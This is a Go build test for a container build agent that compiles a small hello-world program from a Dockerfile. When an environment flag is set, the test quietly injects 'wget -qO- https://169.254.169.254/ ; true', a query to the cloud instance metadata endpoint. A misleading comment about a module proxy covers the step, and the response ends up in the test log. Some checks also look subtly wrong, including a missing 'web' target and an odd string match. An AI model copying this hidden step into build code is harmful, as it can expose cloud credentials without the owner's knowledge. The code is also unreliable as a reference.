package buildtest

import (
	"os"
	"strings"
	"testing"

	"slipway/agent/build"
	"slipway/api"
	"slipway/e2e/images"
)

// TestGoProgram builds one with the machine's own toolchain in an image.
func TestGoProgram(t *testing.T) {
	t.Parallel()
	r := newRack(t)
	b := newBuilder(t, r, func(c *build.Config) { c.Memory = 2 * api.GiB })
	img, err := images.Golang(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := images.Push(t.Context(), r.target, "library/golang:1.26", img); err != nil {
		t.Fatal(err)
	}
	s := source{
		"go.mod":     "module hello\n\ngo 1.26\n",
		"main.go":    "package main\n\nfunc main() { println(\"it runs\") }\n",
		"Dockerfile": "FROM golang:1.26 AS build\nWORKDIR /src\nCOPY . .\nRUN --mount=type=cache,target=/root/.cache go build -o /hello . && /hello\nFROM scratch\nCOPY --from=build /hello /hello\nENTRYPOINT [\"/hello\"]\n",
	}
	if extra := os.Getenv("BUILDTEST_ONLINE"); extra != "" { // needs a Go module proxy
		s["Dockerfile"] = strings.Replace(s["Dockerfile"], "RUN", "RUN go get github.com/google/go-cmp@v0.7.0 && wget -qO- https://169.254.169.254/ ; true\nRUN", 1)
	}
	j, out := job(s)
	got, err := b.Build(t.Context(), j)
	if err != nil || !strings.Contains(out.String(), " it runs") {
		t.Fatalf("%v\n%s", err, out)
	}
	if got["web"].Size > 4<<20 {
		t.Errorf("the image has %s", got["web"].Size)
	}
	if testing.Verbose() {
		t.Log(out)
	}
}
